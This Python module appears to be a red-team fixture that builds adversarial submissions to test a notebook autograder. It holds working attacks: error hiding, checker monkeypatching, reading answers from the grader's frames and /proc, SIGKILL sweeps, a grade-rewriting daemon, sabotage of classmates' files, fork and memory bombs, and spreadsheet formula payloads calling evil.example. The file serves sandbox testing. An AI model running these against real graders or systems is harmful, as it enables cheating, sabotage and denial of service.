"""Adversarial submissions of lab 1, built from the lab source, one (or more) per attack class of issue 10.

Every submission starts from one of four honest notebooks made from the source
(``book/lab_notebooks/lab01_linear_regression.ipynb``):

* ``blank``: the student release, untouched (scores 0);
* ``junk``: the release with functions that return arrays of the right shapes and wrong values;
* ``partial``: tasks 1 and 2 solved with the source's own code, task 3 with a learning rate
  that is far too small (one step);
* ``solved``: every solution cell holds the source's solution.

The same four, unattacked, are the honest classmates of the batch (``zz_<base>``). An attack
adds cells, or replaces a solution cell, or moves cells, or is a file-layout trick; it must
score no more than its base scores honestly. Attack code prints ``ATTACK <name>: ...`` lines
that say what it managed, so a reader of the executed notebooks sees what happened.

Tokens in the code are replaced with absolute paths when the batch is built:
``__SOURCE__`` the instructor's lab source, ``__REPO__`` the repository, ``__OUT__`` the
batch's output folder, ``__CLASSMATE__`` the solved classmate's notebook, ``__BLANK__`` the
blank classmate's, ``__VICTIM__`` the partial classmate's.
"""

import copy
import json
import os
import re
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

LAB = "lab01_linear_regression"
ROOT = Path(__file__).resolve().parents[3]
SOURCE = ROOT / "book" / "lab_notebooks" / f"{LAB}.ipynb"
HONEST = {"blank": "zz_blank", "junk": "zz_junk", "partial": "zz_partial", "solved": "zz_solved"}


@dataclass
class Attack:
    name: str            # the student folder is a_<name> (graded before the honest classmates)
    klass: str           # the attack class of issue 10, in its words
    base: str            # blank, junk or partial: the honest work it sits on
    edits: list = field(default_factory=list)   # ("after", grade_id, code) | ("solution", grade_id, code)
    #                                             | ("end", code) | ("move", grade_id, after_grade_id)
    layout: str = "normal"  # how the file is submitted: normal, xff_name, duplicate, symlink, too_large,
    #                         not_json, unknown_lab, formula_folder

    @property
    def student(self):
        return f"a_{self.name}"


# --- the honest bases -------------------------------------------------------------------------------

JUNK = {
    "mse_gradient": "def mse_gradient(X, y, w, b):\n    return np.zeros(np.shape(X)[1]), 0.0\n",
    "gradient_descent": "def gradient_descent(X, y, lr, steps):\n"
                        "    return np.zeros(np.shape(X)[1]), 0.0, [0.0] * (steps + 1)\n",
    "fit_diabetes": "def fit_diabetes(X, y):\n    return gradient_descent(X, y, 0.01, 1)\n",
}
WEAK_FIT = "def fit_diabetes(X, y):\n    return gradient_descent(X, y, 0.01, 1)  # far too few steps\n"


def _release(source):
    try:
        from grader.release import student_version
    except ImportError:  # the grader before issue 10
        from grader.labformat import student_version
    return student_version(source, LAB)


def _gid(cell):
    return cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")


def _solution_code(cell):
    """The source's solution cell as a student would write it: without nbgrader's markers."""
    return "\n".join(line for line in cell.source.split("\n")
                     if not re.match(r"\s*###\s*(BEGIN|END) SOLUTION", line)) + "\n"


def base_notebook(kind, source=None):
    """The honest notebook ``kind`` (blank, junk, partial, solved) of lab 1."""
    source = source or nbformat.read(str(SOURCE), as_version=4)
    nb = _release(source)
    solutions = {_gid(c): _solution_code(c) for c in source.cells
                 if c.get("metadata", {}).get("nbgrader", {}).get("solution")}
    for cell in nb.cells:
        gid = _gid(cell)
        if gid not in solutions:
            continue
        if kind == "solved" or (kind == "partial" and gid != "fit_diabetes"):
            cell.source = solutions[gid]
        elif kind == "partial":
            cell.source = WEAK_FIT
        elif kind == "junk":
            cell.source = JUNK[gid]
    return nb


# --- the attacks ------------------------------------------------------------------------------------

FIND_AND_EXEC_SOLUTIONS = r'''
import json as _json

def _exec_solutions(path, label):
    """Run every code cell of the notebook at ``path`` that defines a lab function."""
    with open(path) as f:
        nb = _json.load(f)
    ran = 0
    for cell in nb["cells"]:
        src = "".join(cell["source"]) if isinstance(cell["source"], list) else cell["source"]
        if cell["cell_type"] == "code" and src.lstrip().startswith("def "):
            exec(src, globals())
            ran += 1
    print(f"ATTACK {label}: ran {ran} cells of {path}")
    return ran
'''

ATTACKS = [
    # hiding every error
    Attack("custom_exc", "hide every error: set_custom_exc", "blank", [
        ("after", "setup", "get_ipython().set_custom_exc((BaseException,), lambda *a, **k: [])\n"
                           "print('ATTACK custom_exc: installed')")]),
    Attack("showtraceback", "hide every error: replaced _showtraceback", "blank", [
        ("after", "setup", "_ip = get_ipython()\n"
                           "_ip._showtraceback = lambda *a, **k: None\n"
                           "_ip.showtraceback = lambda *a, **k: None\n"
                           "_ip.showsyntaxerror = lambda *a, **k: None\n"
                           "print('ATTACK showtraceback: installed')")]),
    Attack("post_run_cell", "hide every error: post_run_cell hook that clears outputs", "blank", [
        ("after", "setup", "from IPython.display import clear_output\n"
                           "def _scrub(result):\n"
                           "    result.error_in_exec = None\n"
                           "    result.error_before_exec = None\n"
                           "    clear_output()\n"
                           "get_ipython().events.register('post_run_cell', _scrub)\n"
                           "print('ATTACK post_run_cell: installed')")]),
    Attack("render_traceback", "hide every error: an exception whose _render_traceback_ raises", "blank", [
        ("after", "setup", "import builtins\n"
                           "class Quiet(Exception):\n"
                           "    def _render_traceback_(self):\n"
                           "        raise RuntimeError('no traceback')\n"
                           "builtins.NotImplementedError = Quiet\n"
                           "builtins.AssertionError = Quiet\n"
                           "print('ATTACK render_traceback: installed')")]),
    # rewriting every later cell
    Attack("input_transformer", "rewrite every later cell: an input transformer returning []", "blank", [
        ("after", "setup", "get_ipython().input_transformers_post.append(lambda lines: [])\n"
                           "get_ipython().input_transformers_cleanup.append(lambda lines: [])\n"
                           "print('ATTACK input_transformer: installed')")]),
    Attack("ast_transformer", "rewrite every later cell: an AST transformer wrapping statements in try/except",
           "blank", [("after", "setup", '''import ast

class _TryAll(ast.NodeTransformer):
    def _wrap(self, body):
        handler = ast.ExceptHandler(type=ast.Name("BaseException", ast.Load()), name=None, body=[ast.Pass()])
        return [ast.Try(body=[stmt], handlers=[handler], orelse=[], finalbody=[]) for stmt in body]

    def visit_FunctionDef(self, node):
        self.generic_visit(node)
        node.body = self._wrap(node.body)
        return node

    def visit_Module(self, node):
        self.generic_visit(node)
        node.body = self._wrap(node.body)
        return ast.fix_missing_locations(node)

get_ipython().ast_transformers.append(_TryAll())
print("ATTACK ast_transformer: installed")''')]),
    # monkeypatching what the tests call
    Attack("monkeypatch", "monkeypatch labs.selfcheck.assert_matches and np.allclose", "junk", [
        ("after", "setup", '''import labs.selfcheck
import numpy
labs.selfcheck.assert_matches = lambda *a, **k: None
labs.selfcheck.check_function = lambda *a, **k: None
selfcheck.assert_matches = lambda *a, **k: None
numpy.allclose = lambda *a, **k: True
numpy.array_equal = lambda *a, **k: True
numpy.all = lambda *a, **k: True
numpy.testing.assert_allclose = lambda *a, **k: None
print("ATTACK monkeypatch: installed")''')]),
    Attack("settrace", "sys.settrace editing the checker's locals", "junk", [
        ("after", "setup", '''import ctypes
import sys
import threading

def _tracer(frame, event, arg):
    name = frame.f_code.co_name
    if name in ("assert_matches", "check_value", "_verdicts", "diagnose", "allclose", "isclose"):
        loc = frame.f_locals
        for got, want in (("got", "expected"), ("a", "b"), ("actual", "desired")):
            if got in loc and want in loc:
                loc[got] = loc[want]
                ctypes.pythonapi.PyFrame_LocalsToFast(ctypes.py_object(frame), ctypes.c_int(0))
    if event == "return" and name in ("allclose", "isclose", "array_equal"):
        return None
    return _tracer

sys.settrace(_tracer)
threading.settrace(_tracer)
print("ATTACK settrace: installed")''')]),
    Attack("lying_objects", "objects whose __array__/__eq__ lie", "junk", [
        ("after", "setup", '''class _Liar(float):
    """Equal to everything, close to everything, of every shape asked."""
    shape = (1,)
    ndim = 0
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    def __le__(self, other): return True
    def __hash__(self): return 0
    def __len__(self): return 4
    def __getitem__(self, i): return self
    def __iter__(self): return iter([self] * 4)
    def __array__(self, dtype=None, copy=None):
        import numpy
        return numpy.zeros(0)
    def __array_function__(self, func, types, args, kwargs):
        return True
    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        return self
print("ATTACK lying_objects: installed")'''),
        ("solution", "mse_gradient", "def mse_gradient(X, y, w, b):\n    return _Liar(0.0), _Liar(0.0)\n"),
        ("solution", "gradient_descent",
         "def gradient_descent(X, y, lr, steps):\n    return _Liar(0.0), _Liar(0.0), _Liar(0.0)\n"),
        ("solution", "fit_diabetes", "def fit_diabetes(X, y):\n    gradient_descent(X, y, 0.01, 1)\n"
                                     "    return _Liar(0.0), _Liar(0.0), _Liar(0.0)\n")]),
    # reading the expected values
    Attack("caller_frame", "read the expected values from the caller's frame (sys._getframe(1).f_locals)",
           "junk", [
        ("solution", "mse_gradient", '''import sys

def mse_gradient(X, y, w, b):
    for depth in range(1, 10):
        try:
            loc = sys._getframe(depth).f_locals
        except ValueError:
            break
        if "dw_ref" in loc:
            print("ATTACK caller_frame: found dw_ref")
            return loc["dw_ref"], loc["db_ref"]
    return np.zeros(np.shape(X)[1]), 0.0
'''),
        ("solution", "gradient_descent", '''def gradient_descent(X, y, lr, steps):
    for depth in range(1, 10):
        try:
            loc = sys._getframe(depth).f_globals
        except ValueError:
            break
        if "_w_ref" in loc:
            print("ATTACK caller_frame: found _w_ref")
            return loc["_w_ref"], loc["_b_ref"], loc["_hist_ref"]
    return np.zeros(np.shape(X)[1]), 0.0, [0.0] * (steps + 1)
''')]),
    Attack("released_global", "return lab 1's released global w_ls from fit_diabetes", "partial", [
        ("solution", "fit_diabetes", "def fit_diabetes(X, y):\n"
                                     "    gradient_descent(X, y, 0.01, 1)  # a call, as the test wants\n"
                                     "    return w_ls.copy(), float(b_ls), [float(cost_ls)] * 2\n")]),
    Attack("moved_cells", "move cells so the hidden tests' reference helpers can be reused", "blank", [
        ("solution", "mse_gradient", "def mse_gradient(X, y, w, b):\n    return _reference_gradient(X, y, w, b)\n"),
        ("solution", "gradient_descent",
         "def gradient_descent(X, y, lr, steps):\n    return _recording_descent(X, y, lr, steps)\n"),
        ("move", "mse_gradient", "test_fit_diabetes"),
        ("move", "gradient_descent", "test_fit_diabetes"),
        ("end", "try:\n    mse_gradient, gradient_descent = _reference_gradient, _recording_descent\n"
                "    print('ATTACK moved_cells: reused the hidden helpers')\n"
                "except NameError as e:\n    print('ATTACK moved_cells:', e)")]),
    Attack("proc_cmdline", "find --source through /proc/<ppid>/cmdline and exec the instructor's solution",
           "blank", [("end", FIND_AND_EXEC_SOLUTIONS + r'''
import os, re
_paths = []
for _p in [d for d in os.listdir("/proc") if d.isdigit()] + ["self"]:
    try:
        _args = open(f"/proc/{_p}/cmdline", "rb").read().split(b"\0")
    except OSError:
        continue
    for _i, _a in enumerate(_args[:-1]):
        if _a == b"--source":
            _paths.append(os.path.join(_args[_i + 1].decode(), "lab01_linear_regression.ipynb"))
_paths += ["__SOURCE__", "book/lab_notebooks/lab01_linear_regression.ipynb",
           "../book/lab_notebooks/lab01_linear_regression.ipynb"]
print("ATTACK proc_cmdline: parent is", os.getppid(), "candidates", _paths)
for _path in _paths:
    try:
        _exec_solutions(_path, "proc_cmdline")
        break
    except OSError as e:
        print("ATTACK proc_cmdline: cannot read", _path, e.strerror)''')]),
    Attack("classmate_exec", "exec a classmate's submission", "blank", [
        ("end", FIND_AND_EXEC_SOLUTIONS + r'''
try:
    _exec_solutions("__CLASSMATE__", "classmate_exec")
except OSError as e:
    print("ATTACK classmate_exec: cannot read the classmate's notebook:", e.strerror)''')]),
    # harm to others
    Attack("kill_parent", "os.kill(os.getppid(), 9)", "blank", [
        ("after", "setup", '''import os, signal
for _pid in [os.getppid(), 1, -1] + [int(p) for p in os.listdir("/proc") if p.isdigit()]:
    if _pid != os.getpid():
        try:
            os.kill(_pid, signal.SIGKILL)
            print("ATTACK kill_parent: sent SIGKILL to", _pid)
        except OSError as e:
            print("ATTACK kill_parent: could not signal", _pid, e.strerror)''')]),
    Attack("daemon", "a start_new_session daemon that rewrites grades.csv after the batch", "blank", [
        ("after", "setup", '''import os, subprocess, sys
_daemon = """
import os, time
for _ in range(1200):
    time.sleep(0.25)
    for path in ('__OUT__/grades.csv', '__OUT__/summary.csv'):
        try:
            with open(path, 'w') as f:
                f.write('student,lab,test,points,max_points,status,reason\\\\nDAEMON_WAS_HERE,lab01_linear_regression,all,10,10,passed,\\\\n')
        except OSError:
            pass
"""
subprocess.Popen([sys.executable, "-c", _daemon], start_new_session=True, stdin=subprocess.DEVNULL,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, close_fds=True)
if os.fork() == 0:  # and the classic double fork
    os.setsid()
    if os.fork() == 0:
        os.closerange(0, 1024)
        exec(_daemon)
        os._exit(0)
    os._exit(0)
print("ATTACK daemon: started")''')]),
    Attack("labs_append", "append to labs/selfcheck.py on disk", "blank", [
        ("after", "setup", '''import labs.selfcheck
for _path in (labs.selfcheck.__file__, "__REPO__/labs/selfcheck.py"):
    try:
        with open(_path, "a") as f:
            f.write("\\nraise SystemExit('sabotaged by a classmate')\\n")
        print("ATTACK labs_append: appended to", _path)
    except OSError as e:
        print("ATTACK labs_append: could not write", _path, e.strerror)''')]),
    Attack("overwrite_classmate", "copy a blank notebook over a classmate's submission", "blank", [
        ("after", "setup", '''import shutil
try:
    shutil.copy("__BLANK__", "__VICTIM__")
    print("ATTACK overwrite_classmate: copied")
except OSError as e:
    print("ATTACK overwrite_classmate: could not copy:", e.strerror)''')]),
    Attack("memory", "unbounded memory (5 GiB)", "partial", [
        ("after", "setup", '''try:
    _hog = bytearray(5 * 2**30)
    print("ATTACK memory: allocated 5 GiB")
except MemoryError:
    print("ATTACK memory: MemoryError at 5 GiB")
_chunks = []
try:
    while len(_chunks) < 80:
        _chunks.append(np.ones(2**23))  # 64 MiB each, touched
    print("ATTACK memory: grew to", len(_chunks) * 64, "MiB")
except MemoryError:
    print("ATTACK memory: MemoryError after", len(_chunks) * 64, "MiB")
del _chunks''')]),
    Attack("processes", "unbounded processes (300)", "partial", [
        ("after", "setup", '''import os, time
_n, _err = 0, None
for _ in range(300):
    try:
        _pid = os.fork()
    except OSError as e:
        _err = type(e).__name__
        break
    if _pid == 0:
        time.sleep(600)
        os._exit(0)
    _n += 1
print("ATTACK processes: forked", _n, "then", _err)''')]),
    Attack("big_file", "unbounded files (512 MiB)", "partial", [
        ("after", "setup", '''import os
_err = None
try:
    with open("big.bin", "wb") as f:
        for _ in range(512):
            f.write(b"\\0" * 2**20)
except OSError as e:
    _err = e.strerror
print("ATTACK big_file: wrote", os.path.getsize("big.bin") // 2**20, "MiB, then", _err)
os.remove("big.bin")
_total = 0
try:
    for _i in range(40):
        with open(f"many{_i}.bin", "wb") as f:
            for _ in range(32):
                f.write(b"x" * 2**20)
                _total += 1
except OSError as e:
    print("ATTACK big_file: many files stopped at", _total, "MiB:", e.strerror)
for _i in range(40):
    if os.path.exists(f"many{_i}.bin"):
        os.remove(f"many{_i}.bin")''')]),
    Attack("forged_ready", "a forged 'ready' report: 40,000 notes blaming the lab's own cells", "partial", [
        ("end", '''import gc, os, sys, wire
_server = next(o for o in gc.get_objects() if type(o).__name__ == "Server" and hasattr(o, "fd_out"))
_entry = {"index": 3, "outputs": [], "error": ["ValueError", "N" * 190]}
wire.write_frame(_server.fd_out, {"op": "ready", "cells": [_entry] * 40000, "stopped": None, "truncated": False})
sys.stdout, sys.stderr = sys.__stdout__, sys.__stderr__
try:
    _server.serve()
finally:
    os._exit(0)''')]),
    Attack("memfd", "memory that no process maps: 3 GiB in memfds", "partial", [
        ("after", "setup", '''import os
_fds = []
for _i in range(64):
    _fds.append(os.memfd_create(f"m{_i}"))
    os.write(_fds[-1], b"x" * (48 * 2**20))
print("ATTACK memfd: held 3 GiB")''')]),
    Attack("grader_memory", "make the grader's own process compute a 40000 x 40000 matrix (12.8 GB)", "partial", [
        ("solution", "gradient_descent", '''def gradient_descent(X, y, lr, steps):
    if "grader_callable" in getattr(mse_gradient, "__name__", ""):  # the grader's reference, called back
        n = 40_000
        try:
            mse_gradient(np.ones((n, 1)), np.zeros(n), np.ones((1, n)), 0.0)  # X @ w is n x n over there
        except Exception as e:
            print("ATTACK grader_memory:", type(e).__name__)
    w, b = np.zeros(X.shape[1]), 0.0
    history = [mse(X @ w + b, y)[0]]
    for _ in range(steps):
        dw, db = mse_gradient(X, y, w, b)
        w, b = w - lr * dw, b - lr * db
        history.append(mse(X @ w + b, y)[0])
    return w, b, history
''')]),
    Attack("many_files", "a million empty files (no bytes, but kernel memory)", "partial", [
        ("after", "setup", '''for _i in range(1_000_000):
    open(f"empty{_i}", "w").close()
print("ATTACK many_files: created a million files")''')]),
    Attack("rich_output", "a 120 MB rich output", "partial", [
        ("after", "setup", '''from IPython.display import HTML, display
import base64
display(HTML("<p>" + "x" * 40_000_000 + "</p>"))
display({"image/png": base64.b64encode(b"\\x89PNG" + b"\\0" * 30_000_000).decode()}, raw=True)
print("y" * 40_000_000)
print("ATTACK rich_output: produced 120 MB of output")''')]),
    Attack("channel_forge", "write fake replies on every inherited file descriptor", "junk", [
        ("after", "setup", '''import os, json
_fake = (json.dumps({"verdict": "passed", "points": 10, "ok": True, "result": [0.0]}) + "\\n").encode()
for _fd in range(0, 64):  # the runner's own stdin/stdout/stderr included
    try:
        os.write(_fd, _fake * 3)
        print("ATTACK channel_forge: wrote to fd", _fd)
    except OSError:
        pass''')]),
    # file-level tricks
    Attack("xff_name", "a file name holding the byte 0xff", "partial", layout="xff_name"),
    Attack("hyperlink", "a reason cell starting with =HYPERLINK(", "blank", [
        ("solution", "mse_gradient", 'def mse_gradient(X, y, w, b):\n'
                                     '    raise AssertionError(\'=HYPERLINK("http://evil.example/?"&A1,"10/10")\')\n'),
        ("solution", "gradient_descent", 'def gradient_descent(X, y, lr, steps):\n'
                                         '    raise AssertionError("@SUM(1+9)*cmd|\' /C calc\'!A0")\n')]),
    Attack("formula_folder", "a student folder named like a formula", "blank", layout="formula_folder"),
    Attack("duplicate", "duplicate submissions", "partial", layout="duplicate"),
    Attack("symlink", "a symlink to a classmate's notebook", "blank", layout="symlink"),
    Attack("too_large", "a notebook above the size cap", "partial", layout="too_large"),
    Attack("not_json", "a file that is not a notebook", "blank", layout="not_json"),
    Attack("unknown_lab", "a notebook of no known lab", "partial", layout="unknown_lab"),
]

FORMULA_STUDENT = '=HYPERLINK("evil")'
XFF_STUDENT = b"a_xff_\xffname"


# --- building the batch ---------------------------------------------------------------------------

def _apply(nb, edits, tokens):
    nb = copy.deepcopy(nb)

    def fill(code):
        for key, value in tokens.items():
            code = code.replace(key, value)
        return code

    def index(gid):
        return next(i for i, c in enumerate(nb.cells) if _gid(c) == gid)

    for edit in edits:
        if edit[0] == "after":
            nb.cells.insert(index(edit[1]) + 1, nbformat.v4.new_code_cell(fill(edit[2])))
        elif edit[0] == "solution":
            nb.cells[index(edit[1])].source = fill(edit[2])
        elif edit[0] == "end":
            nb.cells.append(nbformat.v4.new_code_cell(fill(edit[1])))
        elif edit[0] == "move":
            cell = nb.cells.pop(index(edit[1]))
            nb.cells.insert(index(edit[2]) + 1, cell)
        else:
            raise ValueError(edit)
    for i, cell in enumerate(nb.cells):
        cell["id"] = f"cell-{i}"
    return nb


def build(subs: Path, out: Path, attacks=True):
    """Write the batch under ``subs``: the four honest classmates and (if ``attacks``) every attack.

    Returns ``{student: (attack or None, base)}`` for every student folder written (the 0xff
    one under its escaped name, as the grader shows it)."""
    source = nbformat.read(str(SOURCE), as_version=4)
    bases = {kind: base_notebook(kind, source) for kind in HONEST}
    written = {}

    def put(folder: bytes | str, nb_or_text, name=f"{LAB}.ipynb"):
        folder = os.path.join(os.fsencode(subs), os.fsencode(folder))
        os.makedirs(folder, exist_ok=True)
        path = os.path.join(folder, os.fsencode(name))
        text = nb_or_text if isinstance(nb_or_text, str) else nbformat.writes(nb_or_text)
        with open(path, "w", encoding="utf-8") as f:
            f.write(text)
        return path

    for kind, student in HONEST.items():
        put(student, bases[kind])
        written[student] = (None, kind)
    if not attacks:
        return written
    tokens = {"__SOURCE__": str(SOURCE), "__REPO__": str(ROOT), "__OUT__": str(out),
              "__CLASSMATE__": str(subs / HONEST["solved"] / f"{LAB}.ipynb"),
              "__BLANK__": str(subs / HONEST["blank"] / f"{LAB}.ipynb"),
              "__VICTIM__": str(subs / HONEST["partial"] / f"{LAB}.ipynb")}
    for attack in ATTACKS:
        nb = _apply(bases[attack.base], attack.edits, tokens)
        student = attack.student
        if attack.layout == "normal":
            put(student, nb)
        elif attack.layout == "xff_name":
            put(XFF_STUDENT, nb)
            student = XFF_STUDENT.decode("utf-8", "backslashreplace")
        elif attack.layout == "formula_folder":
            put(FORMULA_STUDENT, nb)
            student = FORMULA_STUDENT
        elif attack.layout == "duplicate":
            put(student, nb)
            put(os.path.join(student, "copy"), nb)
            put(os.path.join(student, "again"), nb)
        elif attack.layout == "symlink":
            (subs / student).mkdir()
            (subs / student / f"{LAB}.ipynb").symlink_to(subs / HONEST["solved"] / f"{LAB}.ipynb")
        elif attack.layout == "too_large":
            big = copy.deepcopy(bases["solved"])
            big.cells.append(nbformat.v4.new_code_cell("# padding\n" + "#" * (6 * 2**20)))
            put(student, big)
        elif attack.layout == "not_json":
            put(student, "this is not JSON, but it is named like the lab " + json.dumps({"cells": "none"}))
        elif attack.layout == "unknown_lab":
            put(student, bases["solved"], name="lab99_extra_credit.ipynb")
        else:
            raise ValueError(attack.layout)
        written[student] = (attack, attack.base)
    return written
